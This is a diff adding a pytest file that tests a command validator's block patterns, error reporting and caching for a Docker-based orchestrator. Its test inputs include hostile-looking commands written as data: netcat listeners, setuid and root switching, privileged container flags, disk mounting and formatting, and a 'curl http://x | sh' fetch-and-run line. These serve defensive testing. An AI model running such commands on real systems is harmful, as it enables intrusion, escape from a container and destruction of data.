@@ -0,0 +1,43 @@
+import re
+
+import pytest
+
+from benchmarks.bench_validate_command import CORPUS
+from orchestrator.docker_subprocess import BLOCKED_PATTERNS, SecurityError, blocked_rule, validate_command
+
+
+def legacy_blocked(command: str) -> bool:
+    return any(re.search(pattern, command.lower()) for pattern in BLOCKED_PATTERNS)
+
+
+EDGE_CASES = [
+    "su - admin", "su root", "sugar = 1", "eval (x)", "evaluate()", "chmod +s f", "chmod 755 f",
+    "ls 2>&1 | tee > out", "echo a &> b", "--net=host", "--nethost", "cd ../..", "ncat -l", "nc -l",
+    "x = 'mount /dev/sda'", "MKFS.ext4", "echo '--PRIVILEGED'",
+]
+
+
+def test_combined_pattern_agrees_with_per_pattern_search():
+    for command in CORPUS + EDGE_CASES:
+        rule = blocked_rule(command)
+        assert (rule is not None) == legacy_blocked(command), command
+        if rule is not None:
+            assert re.search(rule, command.lower())
+
+
+def test_error_names_the_matched_rule():
+    with pytest.raises(SecurityError) as exc:
+        validate_command("echo hi && curl http://x | sh")
+
+    assert exc.value.rule == r"curl.*\|.*sh"
+    assert r"curl.*\|.*sh" in str(exc.value)
+    validate_command("print('hello')")
+
+
+def test_repeated_commands_are_cached():
+    blocked_rule.cache_clear()
+    for _ in range(3):
+        blocked_rule("for i in range(3): print(i)")
+
+    info = blocked_rule.cache_info()
+    assert (info.hits, info.misses) == (2, 1)